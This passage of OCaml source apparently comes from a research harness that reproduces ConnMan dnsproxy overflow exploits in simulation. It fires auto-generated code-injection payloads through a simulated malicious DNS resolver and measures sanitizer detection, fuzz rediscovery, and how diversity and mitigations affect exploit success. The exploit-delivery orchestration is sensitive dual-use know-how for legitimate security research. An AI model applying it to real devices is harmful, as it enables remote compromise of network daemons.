      in
      let row =
        run_chaos_cell ~instrument ~shards ~seed cell_spec (schedule, policy)
      in
      let symbolize pc =
        match !daemon_ref with
        | None -> Printf.sprintf "0x%08x" pc
        | Some d -> Exploit.Debugger.symbolize (Dnsproxy.process d) pc
      in
      Ok (row, symbolize)

(* Loss sweep: one payload (code injection, no protections — delivery is
   the only variable) fired once per trial across fresh worlds; success
   should fall monotonically as loss rises. *)
let chaos_sweep ~seed ~trials =
  let arch = Loader.Arch.X86 and profile = Profile.none in
  let analysis =
    Dnsproxy.process
      (Dnsproxy.create
         { Dnsproxy.version = Version.v1_34; arch; profile;
           boot_seed = seed + 5000; diversity_seed = None })
  in
  let raw_name =
    match
      Autogen.generate ~analysis:(Exploit.Target.connman analysis)
        ~strategy:Autogen.Code_injection ()
    with
    | Ok (_, raw_name) -> Some raw_name
    | Error _ -> None
  in
  List.map
    (fun loss ->
      let hits = ref 0 in
      for i = 1 to trials do
        let world = W.create ~seed:(seed + (i * 131)) () in
        let lan = W.add_lan world ~name:"venue" in
        if loss > 0.0 then W.set_lan_policy world lan (F.lossy loss);
        let attacker_ip = Ip.of_string "10.9.0.1" in
        let attacker = W.add_host world ~name:"attacker" in
        W.set_host_ip attacker (Some attacker_ip);
        W.attach attacker lan;
        let device =
          Device.create world ~name:"victim"
            ~config:
              { Dnsproxy.version = Version.v1_34; arch; profile;
                boot_seed = seed + i; diversity_seed = None }
        in
        W.attach (Device.host device) lan;
        W.set_host_ip (Device.host device) (Some (Ip.of_string "10.9.0.100"));
        W.set_host_dns (Device.host device) (Some attacker_ip);
        Netsim.Dns_server.malicious world attacker ~forge:(fun ~query ~raw:_ ->
            match raw_name with
            | Some raw_name -> Some (Autogen.response_for ~query ~raw_name)
            | None -> None);
        Device.lookup_with_retry device "ipv4.connman.net" ~retries:2
          ~timeout_us:1_500_000;
        ignore (W.run world);
        if
          List.exists
            (function Dnsproxy.Compromised _ -> true | _ -> false)
            (Device.dispositions device)
        then incr hits
      done;
      { sweep_loss = loss; sweep_trials = trials; sweep_hits = !hits })
    [ 0.0; 0.3; 0.6; 0.9 ]

let chaos_campaign ?(seed = 1) ?(smoke = false) ?(shards = 1) () =
  if shards < 1 then
    invalid_arg "Experiments.chaos_campaign: shards must be positive";
  let cells, schedules =
    if smoke then
      ( List.filter (fun (id, _, _, _) -> id = "DoS" || id = "E1") chaos_cells,
        List.filter
          (fun (n, _) -> n = "clean" || n = "loss-60" || n = "flappy")
          chaos_schedules )
    else (chaos_cells, chaos_schedules)
  in
  let rows =
    List.concat_map
      (fun (ci, cell) ->
        List.map
          (fun (si, sched) ->
            run_chaos_cell ~shards
              ~seed:(seed + (ci * 1009) + (si * 101))
              cell sched)
          (List.mapi (fun si s -> (si, s)) schedules))
      (List.mapi (fun ci c -> (ci, c)) cells)
  in
  let sweep = chaos_sweep ~seed ~trials:(if smoke then 3 else 8) in
  { chaos_seed = seed; chaos_smoke = smoke; chaos_shards = shards;
    chaos_rows = rows; chaos_sweep = sweep }

(* Hand-rolled JSON with fixed field order and %.4f floats so identical
   seeds serialize to identical bytes. *)
let chaos_json r =
  let b = Buffer.create 4096 in
  Buffer.add_string b "{\n  \"schema\": \"chaos-campaign-v1\",\n";
  Buffer.add_string b (Printf.sprintf "  \"seed\": %d,\n" r.chaos_seed);
  Buffer.add_string b (Printf.sprintf "  \"shards\": %d,\n" r.chaos_shards);
  Buffer.add_string b
    (Printf.sprintf "  \"smoke\": %b,\n  \"rows\": [\n" r.chaos_smoke);
  List.iteri
    (fun i row ->
      Buffer.add_string b
        (Printf.sprintf
           "    {\"cell\": %S, \"schedule\": %S, \"compromised\": %b, \
            \"crashes\": %d, \"restarts\": %d, \"gave_up\": %b, \
            \"availability\": %.4f, \"delivered\": %d, \"dropped\": %d, \
            \"dropped_fault\": %d, \"dropped_link\": %d, \"corrupted\": %d, \
            \"duplicated\": %d, \"reordered\": %d}%s\n"
           row.cell row.schedule row.compromised row.crashes row.restarts
           row.gave_up row.availability row.delivered row.dropped
           row.dropped_fault row.dropped_link row.corrupted row.duplicated
           row.reordered
           (if i = List.length r.chaos_rows - 1 then "" else ",")))
    r.chaos_rows;
  Buffer.add_string b "  ],\n  \"loss_sweep\": [\n";
  List.iteri
    (fun i p ->
      Buffer.add_string b
        (Printf.sprintf
           "    {\"loss\": %.2f, \"trials\": %d, \"compromised\": %d}%s\n"
           p.sweep_loss p.sweep_trials p.sweep_hits
           (if i = List.length r.chaos_sweep - 1 then "" else ",")))
    r.chaos_sweep;
  Buffer.add_string b "  ]\n}\n";
  Buffer.contents b

let pp_chaos ppf r =
  let line = String.make 100 '-' in
  Format.fprintf ppf "chaos campaign (seed %d%s)@." r.chaos_seed
    (if r.chaos_smoke then ", smoke grid" else "");
  Format.fprintf ppf "%s@." line;
  Format.fprintf ppf "%-6s %-12s %-12s %7s %8s %8s %6s %9s %9s@." "cell"
    "schedule" "compromised" "crashes" "restarts" "gave_up" "avail" "delivered"
    "dropped";
  Format.fprintf ppf "%s@." line;
  List.iter
    (fun row ->
      Format.fprintf ppf "%-6s %-12s %-12b %7d %8d %8b %6.2f %9d %9d@." row.cell
        row.schedule row.compromised row.crashes row.restarts row.gave_up
        row.availability row.delivered row.dropped)
    r.chaos_rows;
  Format.fprintf ppf "%s@." line;
  Format.fprintf ppf "loss sweep (code injection, no protections):@.";
  List.iter
    (fun p ->
      Format.fprintf ppf "  loss %.2f: %d/%d compromised@." p.sweep_loss
        p.sweep_hits p.sweep_trials)
    r.chaos_sweep

let pp_table ppf rows =
  let line =
    String.make 118 '-'
  in
  Format.fprintf ppf "%s@." line;
  Format.fprintf ppf "%-16s %-16s %-42s %-20s %-16s %s@." "id" "section"
    "description" "expected" "observed" "ok";
  Format.fprintf ppf "%s@." line;
  List.iter
    (fun r ->
      Format.fprintf ppf "%-16s %-16s %-42s %-20s %-16s %s@." r.id r.section
        (if String.length r.description > 42 then
           String.sub r.description 0 39 ^ "..."
         else r.description)
        r.expected r.observed
        (if r.ok then "PASS" else "FAIL"))
    rows;
  Format.fprintf ppf "%s@." line;
  let passed = List.length (List.filter (fun r -> r.ok) rows) in
  Format.fprintf ppf "%d/%d experiment rows reproduce the paper@." passed
    (List.length rows)

(* --- D: detection matrix — every cell re-run under the sanitizer -------- *)

module Oracle = Sanitizer.Oracle

type detection_row = {
  det_cell : string;  (** "DoS", "E1".."E6", "benign-x86", "benign-arm" *)
  det_arch : string;
  det_profile : string;
  det_disposition : string;  (** {!disposition_word} of the sanitized run *)
  det_reports : int;
  det_counts : (string * int) list;  (** per-kind counts, severity order *)
  det_first : Oracle.report option;  (** earliest detection point *)
  det_first_symbol : string;  (** symbolized pc of that report, [""] if none *)
  det_rendered : string list;  (** every report, rendered and symbolized *)
  det_ok : bool;
}

let detection_kinds =
  [
    Oracle.Redzone_write;
    Oracle.Ret_slot_overwrite;
    Oracle.Tainted_pc;
    Oracle.Tainted_syscall;
  ]

(* The sanitizer must catch an exploit before (or at) the control-flow
   hijack: anything up to tainted-pc counts as a timely first detection.
   A first detection of tainted-syscall alone would mean the smash and
   the hijack both went unnoticed. *)
let detection_cells =
  ("DoS", Loader.Arch.X86, Profile.wx, `Dos)
  :: List.map
       (fun (id, _, arch, profile, strategy, _) ->
         (id, arch, profile, `Exploit strategy))
       matrix_cells
  @ [
      ("benign-x86", Loader.Arch.X86, Profile.wx, `Benign);
      ("benign-arm", Loader.Arch.Arm, Profile.wx, `Benign);
    ]

let benign_wire d =
  let q = Dnsproxy.make_query d lookup in
  Dns.Packet.encode
    (Dns.Packet.response ~query:q
       [ Dns.Packet.a_record lookup ~ttl:300 ~ipv4:0x5DB8_D822 ])

let detection_matrix ?(seed = 1) () =
  List.map
    (fun (cell, arch, profile, kind) ->
      let d = mk_device ~seed arch profile in
      let oracle = Oracle.create () in
      Dnsproxy.set_sanitizer d (Some oracle);
      let disposition =
        match kind with
        | `Dos ->
            let q = Dnsproxy.make_query d lookup in
            Some (Dnsproxy.handle_response d (dos_wire q))
        | `Benign -> Some (Dnsproxy.handle_response d (benign_wire d))
        | `Exploit strategy -> (
            match fire ~strategy d with
            | Error _ -> None
            | Ok (_, disposition) -> Some disposition)
      in
      let det_disposition =
        match disposition with
        | None -> "generation failed"
        | Some disp -> disposition_word disp
      in
      let first = Oracle.first_report oracle in
      let symbolize pc = Exploit.Debugger.symbolize (Dnsproxy.process d) pc in
      let det_first_symbol =
        match first with None -> "" | Some r -> symbolize r.Oracle.pc
      in
      let benign = match kind with `Benign -> true | _ -> false in
      let det_ok =
        if benign then
          (* Zero false positives on well-formed traffic. *)
          det_disposition = "parsed" && Oracle.report_count oracle = 0
        else
          det_disposition <> "parsed"
          && det_disposition <> "dropped"
          &&
          match first with
          | None -> false
          | Some r ->
              Oracle.severity r.Oracle.kind
              <= Oracle.severity Oracle.Tainted_pc
      in
      {
        det_cell = cell;
        det_arch = Loader.Arch.name arch;
        det_profile = Profile.name profile;
        det_disposition;
        det_reports = Oracle.report_count oracle;
        det_counts =
          List.map
            (fun k -> (Oracle.kind_name k, Oracle.count oracle k))
            detection_kinds;
        det_first = first;
        det_first_symbol;
        det_rendered =
          List.map (Oracle.render ~symbolize) (Oracle.reports oracle);
        det_ok;
      })
    detection_cells

(* Deterministic serialization, same contract as [chaos_json]. *)
let detection_json ?(seed = 1) rows =
  let b = Buffer.create 4096 in
  Buffer.add_string b "{\n  \"schema\": \"detection-matrix-v1\",\n";
  Buffer.add_string b (Printf.sprintf "  \"seed\": %d,\n  \"rows\": [\n" seed);
  List.iteri
    (fun i r ->
      Buffer.add_string b
        (Printf.sprintf
           "    {\"cell\": %S, \"arch\": %S, \"profile\": %S, \
            \"disposition\": %S, \"reports\": %d" r.det_cell r.det_arch
           r.det_profile r.det_disposition r.det_reports);
      List.iter
        (fun (k, n) ->
          Buffer.add_string b (Printf.sprintf ", \"%s\": %d" k n))
        r.det_counts;
      (match r.det_first with
      | None -> Buffer.add_string b ", \"first\": null"
      | Some f ->
          Buffer.add_string b
            (Printf.sprintf
               ", \"first\": {\"kind\": %S, \"step\": %d, \"pc\": \"0x%08x\", \
                \"addr\": \"0x%08x\", \"target\": \"0x%08x\", \"source\": %d, \
                \"wire_offset\": %d, \"origin\": %S, \"symbol\": %S, \
                \"detail\": %S}"
               (Oracle.kind_name f.Oracle.kind)
               f.Oracle.step f.Oracle.pc f.Oracle.addr f.Oracle.target
               (Oracle.source_id f) (Oracle.wire_offset f) f.Oracle.origin
               r.det_first_symbol f.Oracle.detail));
      Buffer.add_string b
        (Printf.sprintf ", \"ok\": %b}%s\n" r.det_ok
           (if i = List.length rows - 1 then "" else ",")))
    rows;
  Buffer.add_string b "  ]\n}\n";
  Buffer.contents b

let pp_detection ppf rows =
  let line = String.make 112 '-' in
  Format.fprintf ppf "detection matrix (sanitizer oracle)@.%s@." line;
  Format.fprintf ppf "%-11s %-5s %-8s %-15s %8s  %-20s %s@." "cell" "arch"
    "profile" "disposition" "reports" "first detection" "at";
  Format.fprintf ppf "%s@." line;
  List.iter
    (fun r ->
      Format.fprintf ppf "%-11s %-5s %-8s %-15s %8d  %-20s %s  [%s]@."
        r.det_cell r.det_arch r.det_profile r.det_disposition r.det_reports
        (match r.det_first with
        | None -> "-"
        | Some f -> Oracle.kind_name f.Oracle.kind)
        (match r.det_first with
        | None -> "-"
        | Some f ->
            Printf.sprintf "step %d, %s, wire[%d]@%s" f.Oracle.step
              r.det_first_symbol (Oracle.wire_offset f)
              f.Oracle.origin)
        (if r.det_ok then "PASS" else "FAIL"))
    rows;
  Format.fprintf ppf "%s@." line;
  let passed = List.length (List.filter (fun r -> r.det_ok) rows) in
  Format.fprintf ppf "%d/%d cells detected as expected@." passed
    (List.length rows)

let pp_markdown ppf rows =
  Format.fprintf ppf "| id | section | description | expected | observed | ok |@.";
  Format.fprintf ppf "|---|---|---|---|---|---|@.";
  List.iter
    (fun r ->
      Format.fprintf ppf "| %s | %s | %s | %s | %s | %s |@." r.id r.section
        r.description r.expected r.observed
        (if r.ok then "✅" else "❌"))
    rows

(* --- F: fuzz campaign — rediscovering Listing 1 from benign seeds --------- *)

type fuzz_report = {
  fuzz_seed : int;
  fuzz_smoke : bool;
  fuzz_shards : int;
  fuzz_runs : Fuzz.Engine.stats list;  (* x86 shards first, then ARM shards *)
  fuzz_ok : bool;
}

(* Budgets sized from measured behaviour (seed 1 rediscovers at exec 954
   on both ISAs): smoke leaves ~4x headroom and still finishes in well
   under a second per ISA.  [shards] runs that many independent engine
   instances per ISA on derived seeds (the netsim shard-seed idiom,
   [seed + 7919*i]); the campaign passes when every ISA rediscovers the
   overflow in at least one shard. *)
let fuzz_campaign ?(seed = 1) ?(smoke = false) ?(shards = 1) ?execs () =
  if shards < 1 then
    invalid_arg "Experiments.fuzz_campaign: shards must be positive";
  let max_execs =
    match execs with Some e -> e | None -> if smoke then 4_000 else 20_000
  in
  let run_arch arch =
    List.init shards (fun si ->
        Fuzz.Engine.run
          {
            Fuzz.Engine.default_config with
            Fuzz.Engine.arch;
            seed = seed + (7919 * si);
            max_execs;
            stop_on_find = true;
          })
  in
  let x86 = run_arch Loader.Arch.X86 in
  let arm = run_arch Loader.Arch.Arm in
  let found =
    List.exists (fun st -> st.Fuzz.Engine.rediscovered_at <> None)
  in
  {
    fuzz_seed = seed;
    fuzz_smoke = smoke;
    fuzz_shards = shards;
    fuzz_runs = x86 @ arm;
    fuzz_ok = found x86 && found arm;
  }

(* Deterministic serialization, same contract as [chaos_json]: the
   embedded per-run documents are [Fuzz.Engine.stats_json] verbatim, so
   the campaign file carries everything a single run's file would. *)
let fuzz_json r =
  let b = Buffer.create 4096 in
  Buffer.add_string b "{\n  \"schema\": \"fuzz-campaign-v1\",\n";
  Buffer.add_string b (Printf.sprintf "  \"seed\": %d,\n" r.fuzz_seed);
  Buffer.add_string b (Printf.sprintf "  \"shards\": %d,\n" r.fuzz_shards);
  Buffer.add_string b (Printf.sprintf "  \"smoke\": %b,\n" r.fuzz_smoke);
  Buffer.add_string b (Printf.sprintf "  \"ok\": %b,\n  \"runs\": [\n" r.fuzz_ok);
  List.iteri
    (fun i st ->
      Buffer.add_string b (String.trim (Fuzz.Engine.stats_json st));
      Buffer.add_string b
        (if i = List.length r.fuzz_runs - 1 then "\n" else ",\n"))
    r.fuzz_runs;
  Buffer.add_string b "  ]\n}\n";
  Buffer.contents b

let pp_fuzz ppf r =
  Format.fprintf ppf "fuzz campaign (seed %d%s)@." r.fuzz_seed
    (if r.fuzz_smoke then ", smoke" else "");
  List.iter (fun st -> Fuzz.Engine.pp_stats ppf st) r.fuzz_runs;
  Format.fprintf ppf "%s@."
    (if r.fuzz_ok then
       "PASS: Listing-1 overflow rediscovered on both ISAs"
     else "FAIL: overflow not rediscovered within budget")

(* --- V: diversity survival matrix ---------------------------------------- *)

type variant_stats = {
  var_seed : int;
  var_moved : int;
  var_pad_bytes : int;
  var_rewrites : int;
  var_gadgets : int;
  var_gadget_survival : float;
      (* fraction of the undiversified image's gadget addresses that are
         still gadget starts in this variant *)
}

type div_combo = {
  combo : string;  (* "base" | "div" | "shstk" | "div+shstk" *)
  combo_profile : string;
  combo_diversified : bool;
  combo_trials : int;
  combo_successes : int;
  combo_rate : float;
  combo_ci_low : float;
  combo_ci_high : float;
  combo_mitigations : string list;
      (* [Autogen.mitigated_by]: defenses expected to stop this cell *)
  combo_ok : bool;
  combo_gadgets_baseline : int;
  combo_gadget_survival_mean : float;
  combo_moved_mean : float;
  combo_pad_mean : float;
  combo_rewrites_mean : float;
  combo_variant_sample : variant_stats list;  (* first few, for the JSON *)
}

type div_cell = {
  div_id : string;  (* "DoS", "E1".."E6" *)
  div_arch : string;
  div_base_profile : string;
  div_combos : div_combo list;
}

type div_report = {
  div_seed : int;
  div_n : int;  (* variants per cell × combo *)
  div_smoke : bool;
  div_cells : div_cell list;
  div_ok : bool;
}

let variant_sample_size = 4

let gadget_addrs proc =
  match proc.Loader.Process.arch with
  | Loader.Arch.X86 ->
      List.map
        (fun g -> g.Exploit.Gadget.xaddr)
        (Exploit.Gadget.scan_x86 proc ~regions:[ ".text" ])
  | Loader.Arch.Arm ->
      List.map
        (fun g -> g.Exploit.Gadget.aaddr)
        (Exploit.Gadget.scan_arm proc ~regions:[ ".text" ])

(* One cell × one defense combination: fire the same pre-built wire at
   [n] forks of a template device — copy-on-write clones for the
   undiversified combos, [fork_diversified] variants (one derived seed
   per device index) for the diversified ones — and count survivals.
   Success means the attack achieved its goal: code ran for an exploit
   cell, the daemon died for DoS.  For diversified combos, each
   variant's diversification stats (layout moves, padding, Equiv
   rewrites via the variant plan; gadget count and gadget-address
   survival via the scanner) feed the per-combination aggregates. *)
let run_div_combo ~seed ~n ~arch ~kind ~wire_for (combo, profile, diversified) =
  let template = mk_device ~seed arch profile in
  let baseline = if diversified then gadget_addrs (Dnsproxy.process template) else [] in
  let baseline_set = Hashtbl.create 64 in
  List.iter (fun a -> Hashtbl.replace baseline_set a ()) baseline;
  let nbase = List.length baseline in
  let successes = ref 0 in
  let stats = ref [] in
  for i = 0 to n - 1 do
    let d =
      if diversified then
        Dnsproxy.fork_diversified template
          ~diversity_seed:(Diversity.Pool.seed_for ~master:seed i)
      else Dnsproxy.fork template
    in
    let q = Dnsproxy.make_query d lookup in
    let success =
      match (Dnsproxy.handle_response d (wire_for q), kind) with
      | (Dnsproxy.Crashed _ | Dnsproxy.Blocked _), `Dos -> true
      | Dnsproxy.Compromised _, `Exploit _ -> true
      | _ -> false
    in
    if success then incr successes;
    if diversified then begin
      let vseed = Diversity.Pool.seed_for ~master:seed i in
      let plan =
        match arch with
        | Loader.Arch.X86 ->
            Connman.Program_x86.variant_plan ~version:Version.v1_34 ~profile
              ~seed:vseed
        | Loader.Arch.Arm ->
            Connman.Program_arm.variant_plan ~version:Version.v1_34 ~profile
              ~seed:vseed
      in
      let addrs = gadget_addrs (Dnsproxy.process d) in
      let surviving =
        List.length (List.filter (Hashtbl.mem baseline_set) addrs)
      in
      stats :=
        {
          var_seed = vseed;
          var_moved = plan.Diversity.Variant.moved;
          var_pad_bytes = plan.Diversity.Variant.pad_bytes;
          var_rewrites = plan.Diversity.Variant.rewrites;
          var_gadgets = List.length addrs;
          var_gadget_survival =
            (if nbase = 0 then 0.0
             else float_of_int surviving /. float_of_int nbase);
        }
        :: !stats
    end
  done;
  let stats = List.rev !stats in
  let meanf f = Stats.mean (List.map f stats) in
  let mitigations =
    match kind with
    | `Dos -> []
    | `Exploit strategy -> Autogen.mitigated_by profile strategy
  in
  let rate = Stats.binomial_rate ~hits:!successes ~trials:n in
  let lo, hi = Stats.wilson_interval ~hits:!successes ~trials:n () in
  let combo_ok =
    match kind with
    (* The mitigations never block resource-exhaustion DoS: the daemon
       must die in every combination. *)
    | `Dos -> !successes = n
    | `Exploit _ ->
        if mitigations <> [] then !successes = 0
        else if not diversified then !successes = n
        else true (* probabilistic: judged against "base" in the cell *)
  in
  {
    combo;
    combo_profile = Profile.name profile;
    combo_diversified = diversified;
    combo_trials = n;
    combo_successes = !successes;
    combo_rate = rate;
    combo_ci_low = lo;
    combo_ci_high = hi;
    combo_mitigations = mitigations;
    combo_ok;
    combo_gadgets_baseline = nbase;
    combo_gadget_survival_mean = meanf (fun s -> s.var_gadget_survival);
    combo_moved_mean = meanf (fun s -> float_of_int s.var_moved);
    combo_pad_mean = meanf (fun s -> float_of_int s.var_pad_bytes);
    combo_rewrites_mean = meanf (fun s -> float_of_int s.var_rewrites);
    combo_variant_sample =
      List.filteri (fun i _ -> i < variant_sample_size) stats;
  }

(* The four defense combinations of the headline experiment: the cell's
   own profile, plus layout diversity, plus the enforced embedded
   mitigations (shadow stack + forward-edge CFI), plus both. *)
let div_combos profile =
  [
    ("base", profile, false);
    ("div", profile, true);
    ("shstk", Profile.with_mitigations profile, false);
    ("div+shstk", Profile.with_mitigations profile, true);
  ]

let diversity_matrix ?(seed = 1) ?(smoke = false) ?variants ?arch ?base_profile
    () =
  let n = match variants with Some n -> n | None -> if smoke then 48 else 1000 in
  if n < 1 then invalid_arg "Experiments.diversity_matrix: variants must be positive";
  let selected =
    List.filter
      (fun (_, a, p, _) ->
        (match arch with None -> true | Some want -> a = want)
        &&
        match base_profile with
        | None -> true
        | Some want -> Profile.name p = Profile.name want)
      chaos_cells
  in
  if selected = [] then
    invalid_arg "Experiments.diversity_matrix: no cell matches the filter";
  let cells =
    List.map
      (fun (id, arch, base_profile, kind) ->
        (* The payload is built once per cell against an undiversified
           analysis boot of the base profile — the attacker studied a
           stock image; the combinations measure how far that one
           payload carries across the diversified/mitigated fleet. *)
        let wire_for =
          match kind with
          | `Dos -> dos_wire
          | `Exploit strategy -> (
              let analysis =
                Dnsproxy.process
                  (mk_device ~seed:(seed + 5000) arch base_profile)
              in
              match
                Autogen.generate ~analysis:(Exploit.Target.connman analysis)
                  ~strategy ()
              with
              | Ok (_, raw_name) ->
                  fun query -> Autogen.response_for ~query ~raw_name
              | Error e ->
                  failwith
                    (Printf.sprintf "diversity_matrix %s: generation failed: %s"
                       id e))
        in
        let combos =
          List.map
            (run_div_combo ~seed ~n ~arch ~kind ~wire_for)
            (div_combos base_profile)
        in
        (* Monotonicity judgment for the probabilistic combo: layout
           diversity may only lower the survival rate below the
           undiversified base. *)
        let rate_of name =
          match List.find_opt (fun c -> c.combo = name) combos with
          | Some c -> c.combo_rate
          | None -> 0.0
        in
        let combos =
          List.map
            (fun c ->
              if c.combo = "div" then
                { c with combo_ok = c.combo_ok && c.combo_rate <= rate_of "base" }
              else c)
            combos
        in
        {
          div_id = id;
          div_arch = Loader.Arch.name arch;
          div_base_profile = Profile.name base_profile;
          div_combos = combos;
        })
      selected
  in
  {
    div_seed = seed;
    div_n = n;
    div_smoke = smoke;
    div_cells = cells;
    div_ok =
      List.for_all
        (fun c -> List.for_all (fun k -> k.combo_ok) c.div_combos)
        cells;
  }

(* Deterministic serialization, same contract as [chaos_json]: fixed key
   order, %.4f floats, so the same seed always yields the same bytes. *)
let diversity_json r =
  let b = Buffer.create 8192 in
  Buffer.add_string b "{\n  \"schema\": \"diversity-matrix-v1\",\n";
  Buffer.add_string b (Printf.sprintf "  \"seed\": %d,\n" r.div_seed);
  Buffer.add_string b (Printf.sprintf "  \"variants\": %d,\n" r.div_n);
  Buffer.add_string b (Printf.sprintf "  \"smoke\": %b,\n" r.div_smoke);
  Buffer.add_string b (Printf.sprintf "  \"ok\": %b,\n  \"cells\": [\n" r.div_ok);
  List.iteri
    (fun i c ->
      Buffer.add_string b
        (Printf.sprintf
           "    {\"cell\": %S, \"arch\": %S, \"base_profile\": %S, \"combos\": [\n"
           c.div_id c.div_arch c.div_base_profile);
      List.iteri
        (fun j k ->
          Buffer.add_string b
            (Printf.sprintf
               "      {\"combo\": %S, \"profile\": %S, \"diversified\": %b, \
                \"trials\": %d, \"successes\": %d, \"rate\": %.4f, \
                \"ci_low\": %.4f, \"ci_high\": %.4f, \"mitigations\": [%s], \
                \"gadgets_baseline\": %d, \"gadget_survival_mean\": %.4f, \
                \"moved_mean\": %.2f, \"pad_mean\": %.2f, \"rewrites_mean\": \
                %.2f, \"variants\": ["
               k.combo k.combo_profile k.combo_diversified k.combo_trials
               k.combo_successes k.combo_rate k.combo_ci_low k.combo_ci_high
               (String.concat ", "
                  (List.map (Printf.sprintf "%S") k.combo_mitigations))
               k.combo_gadgets_baseline k.combo_gadget_survival_mean
               k.combo_moved_mean k.combo_pad_mean k.combo_rewrites_mean);
          List.iteri
            (fun vi v ->
              Buffer.add_string b
                (Printf.sprintf
                   "%s{\"seed\": %d, \"moved\": %d, \"pad_bytes\": %d, \
                    \"rewrites\": %d, \"gadgets\": %d, \"gadget_survival\": \
                    %.4f}"
                   (if vi = 0 then "" else ", ")
                   v.var_seed v.var_moved v.var_pad_bytes v.var_rewrites
                   v.var_gadgets v.var_gadget_survival))
            k.combo_variant_sample;
          Buffer.add_string b
            (Printf.sprintf "], \"ok\": %b}%s\n" k.combo_ok
               (if j = List.length c.div_combos - 1 then "" else ",")))
        c.div_combos;
      Buffer.add_string b
        (Printf.sprintf "    ]}%s\n"
           (if i = List.length r.div_cells - 1 then "" else ",")))
    r.div_cells;
  Buffer.add_string b "  ]\n}\n";
  Buffer.contents b

let pp_diversity ppf r =
  let line = String.make 104 '-' in
  Format.fprintf ppf
    "diversity survival matrix (seed %d, %d variants per cell%s)@." r.div_seed
    r.div_n
    (if r.div_smoke then ", smoke" else "");
  Format.fprintf ppf "%s@." line;
  Format.fprintf ppf "%-5s %-5s %-10s %-10s %-14s %9s %17s %9s %6s@." "cell"
    "arch" "profile" "combo" "mitigations" "survival" "95% CI" "gadgets" "ok";
  Format.fprintf ppf "%s@." line;
  List.iter
    (fun c ->
      List.iter
        (fun k ->
          Format.fprintf ppf "%-5s %-5s %-10s %-10s %-14s %4d/%-4d %8.4f–%-8.4f %9s %6s@."
            c.div_id c.div_arch k.combo_profile k.combo
            (match k.combo_mitigations with
            | [] -> "-"
            | l -> String.concat "+" l)
            k.combo_successes k.combo_trials k.combo_ci_low k.combo_ci_high
            (if k.combo_diversified then
               Printf.sprintf "%.0f%%" (100.0 *. k.combo_gadget_survival_mean)
             else "-")
            (if k.combo_ok then "PASS" else "FAIL"))
        c.div_combos)
    r.div_cells;
  Format.fprintf ppf "%s@." line;
  Format.fprintf ppf
    "%s: gadget%% is the mean fraction of stock-image gadget addresses \
     surviving diversification@."
    (if r.div_ok then "PASS" else "FAIL")
