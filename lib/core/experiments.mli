(** The experiment index: every §III result, the §III-D remote delivery,
    the firmware survey, and the §IV mitigation ablations — each
    reproduced as a checkable row (see DESIGN.md's experiment table).

    Rows carry the expected outcome (the paper's claim) and the observed
    one; [ok] means they agree.  [all] is what [bench/main.exe] and
    EXPERIMENTS.md report. *)

type row = {
  id : string;  (** e.g. "E5" *)
  section : string;  (** paper section, e.g. "§III-C1" *)
  description : string;
  expected : string;
  observed : string;
  ok : bool;
}

val fire :
  ?strategy:Exploit.Autogen.strategy ->
  Connman.Dnsproxy.t ->
  (Exploit.Payload.t * Connman.Dnsproxy.disposition, string) result
(** Generate a payload against an attacker's analysis boot of the same
    firmware and fire it at the device over a forged response.  Exposed
    for the telemetry differential tests: the exploit-matrix outcome of
    a device must be identical with tracing attached or not. *)

val disposition_word : Connman.Dnsproxy.disposition -> string
(** The observed-outcome vocabulary of the result rows ("parsed",
    "dropped", "crash", "root shell", "code execution", "blocked"). *)

val matrix_cells :
  (string
  * string
  * Loader.Arch.t
  * Defense.Profile.t
  * Exploit.Autogen.strategy
  * string)
  list
(** The six-exploit matrix: id, paper section, arch, protection profile,
    payload strategy, description. *)

val e0_dos : ?seed:int -> unit -> row list
val e1_to_e6_matrix : ?seed:int -> unit -> row list
val e7_pineapple : ?seed:int -> unit -> row list
val e8_survey : ?seed:int -> unit -> row list
val a1_cfi : ?seed:int -> unit -> row list
val a2_diversity : ?seed:int -> ?fleet:int -> unit -> row list
val a3_canary : ?seed:int -> unit -> row list

val a4_entropy_sweep : ?seed:int -> ?trials:int -> ?bits:int list -> unit -> row list
(** Brute-forcing hardcoded libc addresses against restarting daemons:
    measured success rate vs the 2^-bits expectation (the related-work
    D-Link brute-force discussion). *)

val a5_autogen : ?seed:int -> unit -> row list

val a6_adaptation : ?seed:int -> unit -> row list
(** §V: the same toolkit retargeted (frame-geometry swap only) to the
    dnsmasq-sim daemon — DoS, all four RCE strategies, and the patched
    2.78 control. *)

val a7_seccomp : ?seed:int -> unit -> row list
(** A syscall filter denying exec: every RCE strategy reaches the exec
    attempt and dies there — damage limited to a daemon kill (DoS). *)

val a8_tcp_carrier : ?seed:int -> unit -> row list
(** §V's broader claim: "any protocol-based overflow vulnerability is
    susceptible, as long as the code is modified to craft the appropriate
    packet" — the same payloads delivered verbatim inside a framed TCP
    message to tcpsvc-sim. *)

val all : ?seed:int -> unit -> row list
(** Every experiment, in index order (entropy sweep and diversity run at
    reduced trial counts suitable for a test/bench pass). *)

val pp_table : Format.formatter -> row list -> unit
val pp_markdown : Format.formatter -> row list -> unit

(** {2 Chaos campaign}

    The §III matrix (plus the DoS cell) replayed over an impaired
    network: victim and malicious resolver alone on a LAN whose
    {!Netsim.Faults.policy} comes from a named schedule, connmand under
    a {!Supervisor}.  Each run has an attack phase (forged responses)
    followed by a benign phase that measures availability.  All
    randomness is seed-derived: the same seed yields a byte-identical
    {!chaos_json}. *)

type chaos_row = {
  cell : string;  (** "DoS" or "E1".."E6" *)
  schedule : string;  (** fault-schedule name, e.g. "loss-60" *)
  compromised : bool;  (** any response reached code execution *)
  crashes : int;  (** supervisor-observed daemon deaths *)
  restarts : int;
  gave_up : bool;  (** crash loop tripped StartLimitBurst *)
  availability : float;  (** benign lookups answered / attempted, [0,1] *)
  delivered : int;  (** world stats for the whole run… *)
  dropped : int;
  dropped_fault : int;
  dropped_link : int;
  corrupted : int;
  duplicated : int;
  reordered : int;
}

type sweep_point = { sweep_loss : float; sweep_trials : int; sweep_hits : int }

type chaos_report = {
  chaos_seed : int;
  chaos_smoke : bool;
  chaos_shards : int;  (** scheduler shard count of every cell's world *)
  chaos_rows : chaos_row list;
  chaos_sweep : sweep_point list;
      (** exploit-delivery success vs link loss (0/0.3/0.6/0.9) *)
}

val chaos_schedules : (string * Netsim.Faults.policy) list
(** The named fault schedules of the full grid. *)

val run_instrumented_cell :
  ?seed:int ->
  ?schedule:string ->
  ?shards:int ->
  ?trace:Telemetry.Trace.t ->
  ?profiler:Telemetry.Profile.t ->
  ?metrics:Telemetry.Metrics.t ->
  ?monitor:Telemetry.Monitor.t ->
  cell:string ->
  unit ->
  (chaos_row * (int -> string), string) result
(** One chaos cell ("DoS" or "E1".."E6") under one named schedule with
